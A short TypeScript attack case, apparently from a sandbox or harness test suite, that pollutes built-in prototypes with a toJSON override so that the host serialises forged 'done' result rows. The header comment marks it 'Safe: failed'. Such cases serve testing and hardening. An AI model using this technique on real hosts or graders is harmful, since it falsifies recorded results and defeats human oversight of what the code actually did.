// Attack: toJSON on prototypes and on what is returned, to write the rows that the host reads
// Safe: failed

import { createTask, sleep } from "chronograde";

const rows = [["d", 1, "done", { left: "port", right: "starboard" }, null]];
for (const holder of [Object.prototype, Array.prototype, String.prototype, Number.prototype, Function.prototype]) {
  try {
    Object.defineProperty(holder, "toJSON", { value: () => rows });
  } catch {}
}

export async function main(): Promise<unknown> {
  const value = { toJSON: () => ({ left: "port", right: "starboard" }) };
  await createTask(async () => {
    await sleep(1);
    return { toJSON: () => rows };
  });
  return Object.assign(Object.create(Object.prototype) as object, value);
}
